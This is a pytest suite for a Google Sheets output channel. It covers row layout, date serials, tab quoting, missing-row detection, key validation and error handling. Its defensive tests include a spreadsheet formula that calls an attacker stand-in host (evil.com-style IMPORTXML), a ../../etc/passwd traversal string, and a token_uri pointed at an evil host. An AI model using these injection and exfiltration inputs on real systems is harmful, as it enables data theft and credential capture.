"""Google Sheets: rows that stay what they are, ranges that name the tab, and what is missing after a lost answer."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import unquote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from marshmallow import ValidationError

from integration import channels
from integration.channels._settings import Operator
from integration.channels.sheets import COLUMNS, row, serial
from integration.domain.message import Dead, Delivered, Reply, Retry
from tests.channels.samples import EVENTS, HOSTILE, KEY_FILE, event, loaded, message, rendered
from tests.peers.google import EMAIL, SPREADSHEET

CHANNEL = channels.load()["sheets"]


def load(**changes: Any) -> dict[str, Any]:
    return loaded("sheets", **changes)


def refusal(**changes: Any) -> str:
    with pytest.raises(ValidationError) as refused:
        load(**changes)
    assert list(refused.value.messages) == list(changes)
    return str(refused.value)


# -- rows


def test_a_row_has_what_a_sheets_user_wants() -> None:
    told = event(sandbox=True)
    assert dict(zip(COLUMNS, row(message(told)), strict=True)) == {
        "Event ID": told["id"],
        "Time (UTC)": 44335.0,
        "Token": "Bitcoin",
        "Symbol": "BTC",
        "Trigger": "Sharpe Ratio Crossing",
        "Summary": "It rose.",
        "Old Value": 0.94,
        "New Value": 1.0625,
        "Link": "https://gradewire.example/events/1",
        "Known At (UTC)": pytest.approx(44335 + (12 * 60 + 31) / 86400),
        "Note": "sandbox data",
    }


def test_columns_are_only_ever_added_at_the_end() -> None:
    published = ("Event ID", "Time (UTC)", "Token", "Symbol", "Trigger", "Summary", "Old Value", "New Value", "Link")
    assert COLUMNS[: len(published) + 2] == (*published, "Known At (UTC)", "Note")


@settings(deadline=None)
@given(st.datetimes(datetime(2010, 1, 1), datetime(2100, 1, 1)))
def test_a_serial_number_is_that_moment(when: datetime) -> None:
    iso = when.replace(tzinfo=UTC).isoformat().replace("+00:00", "Z")
    assert abs(datetime(1899, 12, 30) + timedelta(days=serial(iso)) - when) < timedelta(milliseconds=1)


@pytest.mark.parametrize("told", EVENTS.values(), ids=EVENTS.keys())
def test_rows_have_every_column_and_cells_that_sheets_takes(told: dict[str, Any]) -> None:
    cells = row(message(told))
    assert len(cells) == len(COLUMNS)
    assert all(isinstance(cell, str | int | float | bool) for cell in cells)
    assert all(len(cell) <= 1000 for cell in cells if isinstance(cell, str))


def test_text_that_looks_like_a_formula_is_sent_as_it_is_and_raw() -> None:
    request = rendered("sheets", [message(HOSTILE["formula"])], load())
    assert json.loads(request.body)["values"][0][2] == '=IMPORTXML("https://evil.example","//a")'
    assert "valueInputOption=RAW&insertDataOption=INSERT_ROWS" in request.url


def test_many_rows_stay_under_two_megabytes() -> None:
    request = rendered("sheets", [message(HOSTILE["emoji"])] * CHANNEL.limits.batch, load())
    assert len(request.body) < CHANNEL.limits.extra["bytes"]


def test_an_odd_tab_is_quoted_in_the_range() -> None:
    tab = "Q1 / it's #1?"
    request = rendered("sheets", [message(event())], load(tab=tab))
    path, _, query = request.url.partition("?")
    assert unquote(path).endswith("/values/'Q1 / it''s #1?'!A1:K1:append")
    assert path.count("/") == 7
    assert "#" not in request.url
    assert query.startswith("valueInputOption=RAW")


def test_requests_want_googles_token_on_a_fresh_connection() -> None:
    config, told = load(), [message(event())]
    assert CHANNEL.prepare
    assert CHANNEL.probe
    for request in (rendered("sheets", told, config), CHANNEL.prepare(config), CHANNEL.probe(told, config)):
        assert request.auth == "google"
        assert request.fresh
        assert request.url.startswith(f"https://sheets.googleapis.com/v4/spreadsheets/{SPREADSHEET}/values/")


# -- what is missing


def test_only_rows_that_are_not_in_column_a_are_absent() -> None:
    assert CHANNEL.absent
    messages = [message(event(id=f"evt_{letter}")) for letter in "abc"]
    reply = Reply(200, json.dumps({"values": [["Event ID", "evt_b"]]}).encode())
    assert [one.id for one in CHANNEL.absent(reply, messages)] == ["evt_a", "evt_c"]


@pytest.mark.parametrize("reply", [Reply(200, b"{}"), Reply(200, b'{"values": [["ev'), Reply(500), Reply(200, b"[]"), Reply(0)])
def test_all_are_absent_where_the_column_cannot_be_read(reply: Reply) -> None:
    assert CHANNEL.absent
    messages = [message(event())]
    assert CHANNEL.absent(reply, messages) == messages


# -- settings


@pytest.mark.parametrize(
    "entered",
    [SPREADSHEET, f" {SPREADSHEET} ", f"https://docs.google.com/spreadsheets/d/{SPREADSHEET}/edit#gid=0"],
)
def test_the_id_is_found_in_a_pasted_address(entered: str) -> None:
    assert load(spreadsheet_id=entered)["spreadsheet_id"] == SPREADSHEET


@pytest.mark.parametrize("entered", ["", "short", "../../etc/passwd/aaaaaaaaaaaaaaa", SPREADSHEET + "\n/x", "ü" * 44])
def test_what_is_no_spreadsheet_is_refused(entered: str) -> None:
    assert "Paste its address" in refusal(spreadsheet_id=entered)


def test_a_key_may_come_as_text_or_object_and_only_what_is_needed_is_kept() -> None:
    expected = {name: value for name, value in KEY_FILE.items() if name != "universe_domain"}
    assert load(service_account=json.dumps(KEY_FILE))["service_account"] == expected
    assert load(service_account=KEY_FILE)["service_account"] == expected
    shorter = {name: value for name, value in KEY_FILE.items() if name != "token_uri"}
    assert load(service_account=shorter)["service_account"] == expected


@pytest.mark.parametrize(
    ("entered", "remedy"),
    [
        ("not json", "not JSON"),
        ("[]", "not the key of a service account"),
        (json.dumps({"type": "authorized_user"}), "not the key of a service account"),
        ({**KEY_FILE, "client_email": ""}, "no client_email"),
        ({**KEY_FILE, "private_key": 7}, "no private_key"),
        ({**KEY_FILE, "private_key": "hunter2"}, "PEM"),
        ({**KEY_FILE, "token_uri": "https://evil.example/token"}, "token_uri must be https://oauth2.googleapis.com/token"),
    ],
)
def test_what_is_no_key_is_refused_with_the_remedy_and_without_the_key(entered: Any, remedy: str) -> None:
    said = refusal(service_account=entered)
    assert remedy in said
    assert "hunter2" not in said


def test_a_local_google_is_for_operators_who_allow_it() -> None:
    local = {"base_url": "http://127.0.0.1:9", "service_account": {**KEY_FILE, "token_uri": "http://127.0.0.1:9/token"}}
    assert "base_url" in refusal(base_url=local["base_url"])
    with Operator({"allow_private": True}):
        assert CHANNEL.config().load({"spreadsheet_id": SPREADSHEET, **local})["base_url"] == local["base_url"]


def test_the_hint_says_whom_to_share_with() -> None:
    assert CHANNEL.hint(load()) == f"Events in 1BxiMV…, as {EMAIL}"


# -- answers


def google(status: int, word: str, text: str) -> Reply:
    return Reply(status, json.dumps({"error": {"code": status, "message": text, "status": word}}).encode())


def test_a_written_range_is_the_remote_id() -> None:
    assert CHANNEL.verdict(Reply(200, b'{"updates": {"updatedRange": "Events!A2:K3"}}')) == Delivered("Events!A2:K3")
    assert CHANNEL.verdict(Reply(200, b"{")) == Delivered()


@pytest.mark.parametrize(
    ("reply", "scope", "remedy"),
    [
        (google(403, "PERMISSION_DENIED", "The caller does not have permission"), "destination", "Share the spreadsheet"),
        (google(403, "PERMISSION_DENIED", "Google Sheets API is disabled. Enable it."), "destination", "Enable it"),
        (google(404, "NOT_FOUND", "Requested entity was not found."), "destination", "no such spreadsheet"),
        (google(400, "INVALID_ARGUMENT", "Unable to parse range: 'Gone'!A1"), "destination", "no such tab"),
        (google(400, "INVALID_ARGUMENT", "Invalid values"), "message", "Invalid values"),
        (Reply(0, error="token", detail="invalid_grant: Invalid JWT Signature."), "destination", "Invalid JWT Signature"),
    ],
)
def test_a_refusal_names_the_remedy(reply: Reply, scope: str, remedy: str) -> None:
    verdict = CHANNEL.verdict(reply)
    assert isinstance(verdict, Dead)
    assert verdict.scope == scope
    assert remedy in verdict.reason


def test_an_expired_token_is_tried_again() -> None:
    assert isinstance(CHANNEL.verdict(google(401, "UNAUTHENTICATED", "…")), Retry)
